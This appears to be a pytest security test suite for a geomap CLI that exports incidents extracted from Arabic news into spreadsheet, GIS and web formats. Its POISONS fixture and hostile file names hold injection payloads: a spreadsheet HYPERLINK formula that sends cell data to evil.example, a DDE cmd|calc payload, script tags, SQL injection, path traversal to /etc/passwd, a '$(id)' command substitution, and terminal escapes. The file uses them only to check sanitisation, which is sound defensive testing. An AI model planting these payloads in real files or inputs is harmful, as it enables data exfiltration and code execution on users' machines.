"""Text that attacks, sent through the commands: what spreadsheets, GIS programs and terminals then read.

The page has a test of its own in a real browser, archives another. Here every field that comes
from outside carries one poison, and readers that are not ours open every format.
"""

from __future__ import annotations

import csv
import json
import re
import sqlite3
from typing import TYPE_CHECKING, Any
from xml.etree import ElementTree as ET
from zipfile import ZipFile

import duckdb
import geopandas
import openpyxl
import pytest
from click.testing import CliRunner

from geomap.cli import main

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

    from click.testing import Result

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
POISONS = {
    "formula": FORMULA,
    "command": "@SUM(1+9)*cmd|' /C calc'!A0",
    "markup": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "sql and expressions": "'); DROP TABLE incidents; --\"[% eval('1') %]${x}$[description]{{7*7}}",
    "path": "../../../../etc/passwd",
    "terminal": "\x1b]0;owned\x07\x1b[2J\x9b31m\x08\x08\r\u202eevil\u2066x",
    "xml": "]]>&a;<!ENTITY a 'b'><?php ?>\ufffe\x00",
}
FORMATS = "geojson,gpkg,parquet,fgb,kml,kmz,csv,xlsx"
_ORDERS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066\u2067]")
LAYERS = {"incidents", "routes", "stops", "areas", "places", "mentions"}


def invoke(*arguments: object, stdin: str | None = None) -> Result:
    result = CliRunner().invoke(main, [str(argument) for argument in arguments], input=stdin)
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    return result


def report(poison: str) -> str:
    text = (
        f"قصفت مدفعية {poison} قرية كنصفرة أمس.\n"
        f"سيّرت القوات الروسية والتركية دورية مشتركة على الطريق M4 من بلدة النيرب إلى مدينة أريحا {poison}.\n"
        f"{poison} وانفجرت عبوة ناسفة في بلدة {poison} ومدينة بنش."
    )
    told = {"id": poison, "title": poison, "publisher": poison, "url": poison, "language": poison}
    return json.dumps({**told, "text": text, "published": "2020-08-17"})


@pytest.fixture(scope="module", params=POISONS)
def attacked(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> tuple[str, Path, Path]:
    """The poison, the folder of the map and the folder of all exports."""
    poison, folder = POISONS[request.param], tmp_path_factory.mktemp("attacked")
    (folder / "in.jsonl").write_text(report(poison), encoding="utf-8")
    out, exported = folder / "out", folder / "layers"
    assert invoke("map", folder / "in.jsonl", "-o", out, "--every-page").exit_code == 0
    assert invoke("export", out / "extractions.jsonl", "--to", FORMATS, "-o", exported).exit_code == 0
    return poison, out, exported


def cells(path: Path) -> Iterator[str]:
    with path.open(encoding="utf-8-sig", newline="") as lines:
        for row in csv.reader(lines):
            yield from row


def test_no_table_holds_a_formula(attacked: tuple[str, Path, Path]) -> None:
    _, out, exported = attacked
    tables = [*out.glob("*.csv"), *exported.glob("*.csv")]
    assert len(tables) >= 4
    for table in tables:
        strange = [
            cell for cell in cells(table) if cell[:1] in set("=+-@\t\r＝＋－＠") and not _is_number(cell)
        ]
        assert strange == [], table.name


def _is_number(cell: str) -> bool:
    return re.fullmatch(r"[+-]?[0-9.]+", cell) is not None


def test_a_workbook_holds_text_alone(attacked: tuple[str, Path, Path]) -> None:
    _, _, exported = attacked
    book = openpyxl.load_workbook(exported / "geomap.xlsx")
    kinds = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row}
    assert "f" not in kinds
    assert not any(cell.hyperlink for sheet in book for row in sheet.iter_rows() for cell in row)
    with ZipFile(exported / "geomap.xlsx") as parts:
        assert not [name for name in parts.namelist() if "external" in name.lower() or "vba" in name.lower()]


def test_kml_stays_kml_and_its_balloons_run_nothing(attacked: tuple[str, Path, Path]) -> None:
    _, _, exported = attacked
    root = ET.fromstring((exported / "geomap.kml").read_text(encoding="utf-8"))  # noqa: S314  # our own file
    known = "{http://www.opengis.net/kml/2.2}"
    assert {element.tag for element in root.iter()} <= {f"{known}{name}" for name in KML_TAGS}
    balloons = [d.text or "" for d in root.iter(f"{known}description")]
    assert len(balloons) > 5
    for balloon in balloons:
        assert not re.search(r"<(?!/?(?:table|tr|th|td|br)\b)", balloon)
        assert "$[" not in balloon
    assert balloons != [""] * len(balloons)


KML_TAGS = [
    *(
        "kml",
        "Document",
        "name",
        "description",
        "Style",
        "IconStyle",
        "LineStyle",
        "PolyStyle",
        "BalloonStyle",
    ),
    *(
        "color",
        "width",
        "text",
        "Schema",
        "SimpleField",
        "displayName",
        "visibility",
        "Placemark",
        "TimeSpan",
    ),
    *(
        "begin",
        "end",
        "styleUrl",
        "ExtendedData",
        "SchemaData",
        "SimpleData",
        "Point",
        "LineString",
        "Polygon",
    ),
    *("MultiGeometry", "tessellate", "coordinates", "outerBoundaryIs", "innerBoundaryIs", "LinearRing"),
]


def test_other_readers_find_the_text_as_it_is(attacked: tuple[str, Path, Path]) -> None:
    poison, out, exported = attacked
    shown = poison.replace("\0", "\ufffd")
    told = geopandas.read_file(exported / "incidents.geojson")
    assert len(told) >= 3
    assert set(told["sources"]) == {shown}
    packaged = geopandas.read_file(exported / "geomap.gpkg", layer="incidents")
    flat = geopandas.read_file(exported / "incidents.fgb")
    with duckdb.connect() as database:
        parquet = database.read_parquet(str(exported / "incidents.parquet")).project("sources").fetchall()
    assert set(packaged["sources"]) == set(flat["sources"]) == {row[0] for row in parquet} == {shown}
    record = json.loads((out / "extractions.jsonl").read_text(encoding="utf-8"))
    assert record["document"]["publisher"] == poison


def test_the_database_file_keeps_its_tables_and_has_no_trigger_of_the_news(
    attacked: tuple[str, Path, Path],
) -> None:
    poison, _, exported = attacked
    with sqlite3.connect(exported / "geomap.gpkg") as database:
        made = database.execute("select type, name, sql from sqlite_master").fetchall()
        rows = database.execute("select count(*) from incidents").fetchone()
    assert {name for kind, name, _ in made if kind == "table"} >= {
        *LAYERS,
        "sources",
        "claims",
        "qgis_projects",
    }
    assert rows[0] >= 3
    assert not [name for _, name, sql in made if poison in f"{name}{sql}"]


def _project(package: Path) -> str:
    """Give the QGIS project in a GeoPackage and the styles beside it, without the extent of its view."""
    with sqlite3.connect(package) as database:
        (packed,) = database.execute("select content from qgis_projects").fetchone()
        styles = database.execute("select styleQML, styleSLD from layer_styles order by id").fetchall()
    file = package.with_suffix(".qgz")
    file.write_bytes(bytes.fromhex(packed))
    with ZipFile(file) as project:
        text = project.read("geomap.qgs").decode()
    return re.sub(r'<[xy]m(?:in|ax)>[^<]*<|[xy]m(?:in|ax)="[^"]*"', "", text) + str(styles)


def test_no_word_of_the_news_reaches_the_qgis_project(
    attacked: tuple[str, Path, Path], tmp_path: Path
) -> None:
    """Expressions, actions and forms of a project run in QGIS: they are the same whatever the news say."""
    _, _, exported = attacked
    (tmp_path / "in.jsonl").write_text(report("x"), encoding="utf-8")
    assert invoke("extract", tmp_path / "in.jsonl", "-o", tmp_path / "r.jsonl", "--every-page").exit_code == 0
    assert invoke("export", tmp_path / "r.jsonl", "--to", "gpkg", "-o", tmp_path / "out").exit_code == 0
    project = _project(exported / "geomap.gpkg")
    assert project == _project(tmp_path / "out" / "geomap.gpkg")
    assert "<attributeactions" not in project
    assert "editforminit" not in project


def test_no_file_is_written_but_those_that_are_known(attacked: tuple[str, Path, Path]) -> None:
    _, out, exported = attacked
    written = {path.relative_to(out).as_posix() for path in out.rglob("*")}
    layers = {f"{name}.geojson" for name in LAYERS}
    tables = {"incidents.csv", "unresolved.csv", "doubtful.csv"}
    rest = {"map.html", "map.png", "map.svg", "geomap.gpkg", "extractions.jsonl", "run.json"}
    assert written == layers | tables | rest
    assert {path.parent for path in exported.rglob("*")} == {exported}
    assert sorted(path.name for path in out.parent.iterdir()) == ["in.jsonl", "layers", "out"]


def _ids(out: Path) -> list[str]:
    record = json.loads((out / "extractions.jsonl").read_text(encoding="utf-8"))
    incidents = json.loads((out / "incidents.geojson").read_text(encoding="utf-8"))["features"]
    return [
        incidents[0]["id"],
        record["events"][0]["id"],
        record["mentions"][0]["id"],
        record["document"]["id"],
    ]


def test_no_command_gives_orders_to_a_terminal(tmp_path: Path, root: Path) -> None:
    """Every command that prints what came from outside: text, records, tables, errors, progress."""
    poison, given, out = POISONS["terminal"], tmp_path / "in.jsonl", tmp_path / "out"
    given.write_text(report(poison), encoding="utf-8")
    assert invoke("map", given, "-o", out, "--every-page").exit_code == 0
    gold = tmp_path / "gold.jsonl"
    assert invoke("map", root / "seeds", "-o", tmp_path / "seeds", "-q").exit_code == 0
    line = json.loads((out / "extractions.jsonl").read_text(encoding="utf-8"))
    text = json.loads(given.read_text(encoding="utf-8"))["text"]
    mentions = [{k: m[k] for k in ("start", "end", "surface", "entry_id")} for m in line["mentions"][:1]]
    gold.write_text(json.dumps({"id": poison, "text": text, "mentions": mentions, "events": []}))
    runs: list[tuple[Any, ...]] = [
        ("explain", given),
        ("explain", f"قصفت المدفعية {poison} مدينة سراقب".replace("\0", "")),
        ("map", given, "-o", tmp_path / "again", "--every-page", "-v"),
        ("map", tmp_path / f"{poison.replace('/', '_')}.txt".replace("\0", ""), "-o", tmp_path / "none"),
        ("extract", given, "-o", "-", "--every-page", "-v"),
        ("verify", out, "--input", root / "seeds"),
        ("diff", tmp_path / "seeds", out),
        ("diff", tmp_path / "seeds", out, "--json"),
        ("evaluate", gold),
        ("evaluate", gold, "--json"),
        ("gazetteer", "find", poison.replace("\0", "")),
        ("gazetteer", "show", poison.replace("\0", "")),
        ("gazetteer", "suggest", out),
        *(("show", record_id, "-o", out) for record_id in _ids(out)),
        ("export", poison.replace("\0", ""), "--to", "csv", "-o", tmp_path / "x"),
        ("export", out / "extractions.jsonl", "--to", poison.replace("\0", "")),
    ]
    for arguments in runs:
        result = invoke(*arguments)
        printed = result.stdout + result.stderr
        assert printed, arguments
        assert _ORDERS.findall(printed) == [], (arguments[0], result.exit_code)


def test_a_file_with_a_hostile_name_is_named_safely(geomap: Callable[..., Result], tmp_path: Path) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    names = [
        "=cmd|calc.txt",
        "a\nINJECTED: line.txt",
        "\x1b[31mred.txt",
        "\u202egpj.txt",
        "-o.txt",
        "$(id).txt",
    ]
    for number, name in enumerate(names):
        (folder / name).write_text(f"قصفت المدفعية قرية كنصفرة، رقم {number}.", encoding="utf-8")
    (folder / "\x1b[2Jbroken.html").write_bytes(b"\0\1\2")
    out = tmp_path / "out"
    result = geomap("map", folder, "-o", out, "-v")
    assert _ORDERS.findall(result.stderr) == []
    assert "\nINJECTED" not in result.stderr
    assert len(json.loads((out / "run.json").read_text(encoding="utf-8"))["documents"]) == len(names)
    assert {path.parent for path in out.rglob("*")} == {out}
    assert not [cell for cell in cells(out / "incidents.csv") if cell.startswith("=")]


def test_records_of_another_give_no_orders_either(geomap: Callable[..., Result], built: Path) -> None:
    """A folder may come from anywhere: its records may hold what our own reading never writes."""
    records = built / "extractions.jsonl"
    poison = POISONS["terminal"]
    lines = []
    for line in records.read_text(encoding="utf-8").splitlines():
        record = json.loads(line)
        for event in record["events"]:
            event |= {"target": poison, "weapon": poison, "actors": [poison]}
            event["reasons"] = [{"rule": poison, "score": 1, "words": poison, "start": None, "end": None}]
        for mention in record["mentions"]:
            mention |= {"reason": poison, "name_en": poison, "name_ar": poison}
        lines.append(json.dumps(record))
    records.write_text("\n".join(lines), encoding="utf-8")
    ids = [e["id"] for line in lines for e in json.loads(line)["events"]]
    ids += [m["id"] for line in lines for m in json.loads(line)["mentions"]]
    for record_id in ids:
        result = geomap("show", record_id, "-o", built)
        assert result.exit_code == 0
        assert _ORDERS.findall(result.output) == []
